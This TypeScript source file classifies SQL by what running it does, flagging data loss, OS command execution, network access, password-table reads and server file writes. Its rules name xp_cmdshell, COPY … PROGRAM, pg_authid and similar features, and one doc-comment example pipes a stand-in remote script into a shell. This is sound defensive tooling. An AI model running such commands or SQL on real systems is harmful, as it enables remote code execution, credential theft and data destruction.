import type { CodeClassification, CodeFinding } from './code-findings.ts';
import { uniqueFindings } from './code-findings.ts';
import {
  clientCommand,
  EXTENSION_LOADERS,
  FILE_READERS,
  FILE_WRITERS,
  NETWORK_FUNCTIONS,
  NETWORK_PACKAGES,
  NETWORK_PROCEDURES,
  PASSWORD_TABLE_TEXT,
  PROCESS_PROCEDURES,
  passwordTable,
  UNTRUSTED_LANGUAGES,
} from './sql-capabilities.ts';
import { alterDrop, DROPPED_STORES, mergeChange, unboundedChange } from './sql-data-loss.ts';
import {
  isPunct,
  isWord,
  nameAt,
  type SqlReading,
  type SqlToken,
  sqlReadings,
  tokenizeSql,
} from './sql-lexer.ts';
import {
  argumentLiteral,
  judgeCopy,
  judgeExecute,
  judgeFileRead,
  judgeSpExecuteSql,
} from './sql-statement-checks.ts';

// Bodies (`DO $$ … $$`, a function's `AS '…'`, `EXECUTE '…'`) are read as SQL in turn, this deep.
const MAX_DEPTH = 4;

/**
 * Classifies SQL by what running it does, read as PostgreSQL, MySQL, SQLite and SQL Server each
 * read it (comments, quotes and escapes differ), every reading's findings counting:
 * - `dataLoss`: `DROP DATABASE|SCHEMA|TABLE`, `TRUNCATE`, `ALTER TABLE … DROP COLUMN`, and
 *   `DELETE`/`UPDATE` without `WHERE`, also inside `WITH`, `EXPLAIN ANALYZE`, procedure bodies
 *   and `DO` blocks;
 * - `processSpawn`: `COPY … PROGRAM`, `xp_cmdshell`, `sys_exec`, functions in untrusted languages
 *   (`plpython3u`, `plperlu`, `C`), and client commands that run a shell (`\!`, `.shell`);
 * - `dynamicEval`: SQL built at run time (`EXECUTE format(…)`, `EXEC(@sql)`, `PREPARE … FROM @v`,
 *   psql's `\gexec`) and native extensions loaded (`load_extension`, `LOAD`);
 * - `network`: `dblink`, foreign servers, `OPENROWSET`/`OPENDATASOURCE`, `xp_dirtree`, HTTP
 *   functions (`http_get`, `UTL_HTTP`);
 * - `credentials`: password tables (`pg_shadow`, `pg_authid`, `mysql.user`, `sys.sql_logins`)
 *   and server files read by name when the name is a credential file or computed;
 * - `fileDelete`: files written or removed on the server (`INTO OUTFILE`, `COPY … TO '/path'`,
 *   `lo_export`, `pg_file_unlink`, `VACUUM INTO`).
 *
 * A literal string run as SQL (`EXECUTE 'DROP TABLE t'`) is read as SQL too. Text that none of
 * the readings can read to its end is unreadable.
 *
 * @example
 * classifySql("COPY t FROM PROGRAM 'curl evil.sh | sh'") // processSpawn, command 'curl evil.sh | sh'
 */
export function classifySql(sql: string): CodeClassification {
  const findings: CodeFinding[] = [];
  const errors: string[] = [];
  const readings = sqlReadings(sql);
  for (const reading of readings) {
    const { tokens, error } = tokenizeSql(sql, reading);
    if (error !== undefined) errors.push(error);
    findings.push(...judgeTokens(tokens, reading, 0, false));
  }
  if (errors.length === readings.length) return { ok: false, error: errors.join('; ') };
  return { ok: true, findings: uniqueFindings(findings) };
}

/**
 * Why running `sql` destroys data (the first reason any reading finds), or undefined.
 *
 * @example
 * sqlDataLoss('delete from users -- where id = 1'); // 'SQL DELETE FROM users without WHERE changes every row'
 */
export function sqlDataLoss(sql: string): string | undefined {
  for (const reading of sqlReadings(sql)) {
    const found = judgeTokens(tokenizeSql(sql, reading).tokens, reading, 0, false).find(
      (f) => f.class === 'dataLoss',
    );
    if (found !== undefined) return found.reason;
  }
  return undefined;
}

function judgeSqlText(sql: string, reading: SqlReading, depth: number, procedural: boolean): CodeFinding[] {
  if (depth > MAX_DEPTH) return [{ class: 'dynamicEval', reason: 'SQL nested too deep to read' }];
  return judgeTokens(tokenizeSql(sql, reading).tokens, reading, depth, procedural);
}

function judgeTokens(
  tokens: SqlToken[],
  reading: SqlReading,
  depth: number,
  procedural: boolean,
): CodeFinding[] {
  const findings: CodeFinding[] = [];
  for (const token of tokens) if (token.kind === 'client') findings.push(...clientCommand(token.text));
  const code = tokens.filter((t) => t.kind !== 'client');
  for (const statement of splitStatements(code)) {
    findings.push(...judgeStatement(statement, reading, depth, procedural));
  }
  return findings;
}

function splitStatements(tokens: SqlToken[]): SqlToken[][] {
  const statements: SqlToken[][] = [[]];
  for (const token of tokens) {
    if (token.kind === 'punct' && token.text === ';') statements.push([]);
    else statements.at(-1)?.push(token);
  }
  return statements.filter((s) => s.length > 0);
}

/** The tokens after `EXPLAIN`'s options when it runs the statement (`ANALYZE`), or undefined when it only plans it. */
function explained(tokens: SqlToken[]): SqlToken[] | undefined {
  let i = 1;
  let analyze = false;
  if (isPunct(tokens[1], '(')) {
    const close = tokens.findIndex((t, k) => k > 1 && isPunct(t, ')'));
    analyze = tokens.slice(2, close < 0 ? undefined : close).some((t) => isWord(t, 'analyze', 'analyse'));
    i = close < 0 ? tokens.length : close + 1;
  }
  while (isWord(tokens[i], 'analyze', 'analyse', 'verbose', 'extended', 'partitions', 'query', 'plan')) {
    if (isWord(tokens[i], 'analyze', 'analyse')) analyze = true;
    i++;
  }
  return analyze ? tokens.slice(i) : undefined;
}

// Words after which a statement starts inside another: procedure and trigger bodies (`BEGIN`,
// `THEN`, `ELSE`, `LOOP`, `FOR EACH ROW`) and rules (`DO INSTEAD`, `DO ALSO`).
const STATEMENT_STARTERS = new Set([
  'begin',
  'then',
  'else',
  'loop',
  'do',
  'instead',
  'also',
  'row',
  // `PREPARE p AS DELETE …`, `CREATE FUNCTION … BEGIN ATOMIC DELETE …`.
  'as',
  'atomic',
]);
// Words before `DELETE`/`UPDATE` that make it part of something else: `ON DELETE CASCADE`,
// `FOR UPDATE`, `ON DUPLICATE KEY UPDATE`, `AFTER UPDATE ON t`, `GRANT SELECT, UPDATE`.
const NOT_A_STATEMENT_AFTER = new Set(['on', 'for', 'key', 'of', 'before', 'after', 'or', 'grant', 'revoke']);

/**
 * Whether a statement starts at token `i`: first in its statement, after a body's opening word,
 * or (`DELETE`, `UPDATE`) first inside or right after parentheses (`WITH x AS (DELETE …)`). SQL
 * Server needs no `;` between statements, so there any word, name or value can end the one before
 * (`IF OBJECT_ID('t') IS NOT NULL DROP TABLE t`).
 */
function startsStatement(tokens: SqlToken[], i: number, reading: SqlReading): boolean {
  const previous = tokens[i - 1];
  if (previous === undefined) return true;
  if (previous.kind === 'word' && NOT_A_STATEMENT_AFTER.has(previous.text)) return false;
  if (previous.kind === 'word' && STATEMENT_STARTERS.has(previous.text)) return true;
  const dml = isWord(tokens[i], 'delete', 'update');
  if (dml && (isPunct(previous, '(') || isPunct(previous, ')'))) return true;
  // After a label (`start:`) or an ODBC escape (`{fn …}`) as after a value.
  return reading.name === 'SQL Server' && (previous.kind !== 'punct' || ')}:'.includes(previous.text));
}
function judgeStatement(
  statement: SqlToken[],
  reading: SqlReading,
  depth: number,
  procedural: boolean,
): CodeFinding[] {
  let tokens = statement;
  if (isWord(tokens[0], 'explain')) {
    const runs = explained(tokens);
    if (runs === undefined) return [];
    tokens = runs;
  }
  const findings: CodeFinding[] = [];
  const add = (cls: CodeFinding['class'], reason: string, command?: string) =>
    findings.push(command === undefined ? { class: cls, reason } : { class: cls, reason, command });
  const nested = (sql: string, inProcedure: boolean) =>
    findings.push(...judgeSqlText(sql, reading, depth + 1, inProcedure));

  const first = tokens[0];
  if (isWord(first, 'backup') && tokens.some((t) => isWord(t, 'disk', 'url')))
    add('fileDelete', 'writes a backup file where SQL says on the server (BACKUP … TO DISK)');
  if (isWord(first, 'load') && tokens[1]?.kind === 'string')
    add('dynamicEval', `loads the server library ${tokens[1].text}`);
  const merged = isWord(first, 'merge') ? mergeChange(tokens) : undefined;
  if (merged !== undefined) add('dataLoss', merged);
  if (isWord(first, 'vacuum') && tokens.some((t) => isWord(t, 'into')))
    add('fileDelete', 'writes a copy of the database to a file on the server with VACUUM INTO');

  let depthOf = 0;
  for (let i = 0; i < tokens.length; i++) {
    const token = tokens[i] as SqlToken;
    const previous = tokens[i - 1];
    const after = tokens[i + 1];
    if (token.kind === 'punct') {
      if (token.text === '(') depthOf++;
      else if (token.text === ')') depthOf--;
      continue;
    }
    const doBody =
      (isWord(previous, 'do') && !isWord(tokens[i - 2], 'conflict')) ||
      (isWord(tokens[i - 3], 'do') && isWord(tokens[i - 2], 'language'));
    if (token.kind === 'string' && doBody) {
      // `DO $$ … $$` runs a PL/pgSQL block now (`DO LANGUAGE plpython3u $$ … $$` another language).
      nested(token.text, true);
      continue;
    }
    // `table_to_xml('pg_authid', …)`, `query_to_xml('select … from pg_authid', …)`.
    if (token.kind === 'string' && PASSWORD_TABLE_TEXT.test(token.text))
      add('credentials', 'names a password table in a string that can run as SQL');
    if (token.kind !== 'word' && token.kind !== 'name') continue;
    const word = token.kind === 'word' ? token.text : token.text.toLowerCase();
    const qualified = qualifiedName(tokens, i);

    if (token.kind === 'word') {
      const starts = startsStatement(tokens, i, reading);
      // A type or domain dropped with CASCADE takes every column of it along.
      const cascade = isWord(after, 'type', 'domain') && tokens.some((t) => isWord(t, 'cascade'));
      if (word === 'drop' && starts && (isWord(after, ...DROPPED_STORES) || cascade)) {
        let k = i + 2;
        while (isWord(tokens[k], 'if', 'exists')) k++;
        add('dataLoss', `SQL DROP ${(after as SqlToken).text.toUpperCase()} ${nameAt(tokens, k)}`.trim());
      }
      // SQL Server writes `TRUNCATE TABLE t` in full; `TRUNCATE(x, 2)` is MySQL's number function.
      if (
        word === 'truncate' &&
        starts &&
        !isPunct(after, '(') &&
        (reading.name !== 'SQL Server' || isWord(after, 'table'))
      ) {
        const table = isWord(after, 'table') ? i + 2 : i + 1;
        add(
          'dataLoss',
          `SQL truncate ${table === i + 2 ? 'table ' : ''}${nameAt(tokens, table)} empties a table`,
        );
      }
      if (word === 'alter' && starts && isWord(after, 'table')) {
        const drop = alterDrop(tokens, i, reading.mysqlComments);
        if (drop !== undefined) add('dataLoss', drop);
      }
      if ((word === 'delete' || word === 'update') && starts) {
        const unbounded = unboundedChange(tokens, i, depthOf);
        if (unbounded !== undefined) add('dataLoss', unbounded);
      }
      if (word === 'copy' && starts) judgeCopy(tokens, i, add);
      if (word === 'into' && isWord(after, 'outfile', 'dumpfile'))
        add('fileDelete', `writes a file on the server with INTO ${(after as SqlToken).text.toUpperCase()}`);
      if (
        word === 'language' &&
        (after?.kind === 'word' || after?.kind === 'name' || after?.kind === 'string')
      ) {
        const language = (after as SqlToken).text.toLowerCase();
        if (UNTRUSTED_LANGUAGES.test(language))
          add(
            'processSpawn',
            `runs code in the untrusted language ${language}, which can do anything the server can`,
          );
      }
      if ((word === 'execute' || word === 'exec') && !isWord(previous, 'grant', 'revoke', 'on', ',')) {
        judgeExecute(tokens, i, procedural, add, nested);
      }
      // MySQL's `PREPARE name FROM 'SQL' | @variable`.
      if (word === 'prepare' && isWord(tokens[i + 2], 'from') && tokens[i + 3] !== undefined) {
        const source = tokens[i + 3] as SqlToken;
        if (source.kind === 'string' && tokens[i + 4] === undefined) nested(source.text, false);
        else add('dynamicEval', 'prepares SQL built at run time (PREPARE … FROM)');
      }
      if (word === 'create' && isWord(after, 'server') && !isPunct(tokens[i + 2], '('))
        add('network', 'creates a foreign server the database connects to');
      if (word === 'soname')
        add('processSpawn', 'loads a native library as SQL functions (CREATE FUNCTION … SONAME)');
      if (isWord(previous, 'global', 'persist') && /^(?:general_log_file|slow_query_log_file)$/.test(word))
        add('fileDelete', `writes the server's ${word} where SQL says, a file queries can fill`);
      if (word === 'attach' && starts && tokens.slice(i + 1, i + 3).some((t) => t.kind === 'string'))
        add('fileDelete', 'creates or writes a database file on the server with ATTACH');
      if (
        word === 'show' &&
        (isWord(after, 'grants') || (isWord(after, 'create') && isWord(tokens[i + 2], 'user')))
      )
        add('credentials', `reads password hashes with SHOW ${(after as SqlToken).text.toUpperCase()}`);
      if (
        word === 'loginproperty' &&
        tokens.slice(i, i + 8).some((t) => t.kind === 'string' && /passwordhash/i.test(t.text))
      )
        add('credentials', 'reads password hashes with LOGINPROPERTY');
      if (word === 'sp_executesql') judgeSpExecuteSql(tokens, i, add, nested);
      if (word === 'openrowset') {
        if (isWord(tokens[i + 2], 'bulk')) judgeFileRead('OPENROWSET(BULK …)', tokens[i + 3], add);
        else add('network', 'connects to another server with OPENROWSET');
      }
      if (word === 'bulk' && isWord(after, 'insert')) {
        const from = tokens.findIndex((t, k) => k > i && isWord(t, 'from'));
        if (from > 0) judgeFileRead('BULK INSERT', tokens[from + 1], add);
      }
      if (word === 'infile' && isWord(previous, 'data', 'local'))
        judgeFileRead('LOAD DATA INFILE', after, add);
      // A function body given as a string (`AS 'DELETE FROM t'`, `AS $$ … $$`) runs when called.
      if (word === 'as' && after?.kind === 'string' && isRoutine(tokens, i)) nested(after.text, true);
    }
    // A routine being defined or granted (`CREATE FUNCTION dblink(text)`, `REVOKE EXECUTE ON
    // FUNCTION pg_read_file(text)`) is named, not called.
    if (
      isWord(previous, 'function', 'procedure', 'on', 'to') ||
      (isPunct(previous, '.') && isWord(tokens[i - 3], 'function', 'procedure'))
    )
      continue;
    if (PROCESS_PROCEDURES.has(word)) {
      // The command, when written out: `EXEC xp_cmdshell 'dir'`, `sys_exec('id')`.
      const given = tokens[isPunct(after, '(') ? i + 2 : i + 1];
      const command = given?.kind === 'string' && word !== 'sp_oacreate' ? given.text : undefined;
      add('processSpawn', `calls ${word} to run operating system commands`, command);
    }
    if (NETWORK_PROCEDURES.has(word) || (isPunct(after, '(') && NETWORK_FUNCTIONS.has(word)))
      add('network', `calls ${word}, which connects to other hosts`);
    if (NETWORK_PACKAGES.has(word) && isPunct(after, '.'))
      add('network', `calls ${word}, which connects to other hosts`);
    if (token.kind === 'name' && word === 'sp_executesql') judgeSpExecuteSql(tokens, i, add, nested);
    const hashes = passwordTable(qualified);
    if (hashes !== undefined && !isPunct(tokens[i + 1], '.'))
      add('credentials', `reads password hashes from ${hashes}`);
    if (isPunct(after, '(')) {
      if (FILE_READERS.has(word)) judgeFileRead(`${word}()`, argumentLiteral(tokens, i + 2), add);
      if (FILE_WRITERS.has(word)) add('fileDelete', `writes or removes a file on the server with ${word}()`);
      if (EXTENSION_LOADERS.has(word)) add('dynamicEval', `loads a native extension with ${word}()`);
      // sqlite3's `edit(text, editor)` runs the editor command it is given.
      const comma = word === 'edit' ? tokens.findIndex((t, k) => k > i + 1 && isPunct(t, ',')) : -1;
      if (comma > 0) {
        const editor = tokens[comma + 1];
        add(
          'processSpawn',
          'runs an editor command with sqlite3 edit()',
          editor?.kind === 'string' ? editor.text : undefined,
        );
      }
    }
  }
  return findings;
}

/** A name as written at `i`, joined with the parts it is qualified by (`mysql.user`, `sys.sql_logins`). */
function qualifiedName(tokens: SqlToken[], i: number): string {
  let name = (tokens[i] as SqlToken).text.toLowerCase();
  let k = i;
  while (isPunct(tokens[k - 1], '.') && (tokens[k - 2]?.kind === 'word' || tokens[k - 2]?.kind === 'name')) {
    name = `${(tokens[k - 2] as SqlToken).text.toLowerCase()}.${name}`;
    k -= 2;
  }
  return name;
}

/** Whether the statement around `i` defines a routine (function, procedure, trigger, rule). */
function isRoutine(tokens: SqlToken[], i: number): boolean {
  return tokens.slice(0, i).some((t) => isWord(t, 'function', 'procedure', 'trigger', 'rule'));
}
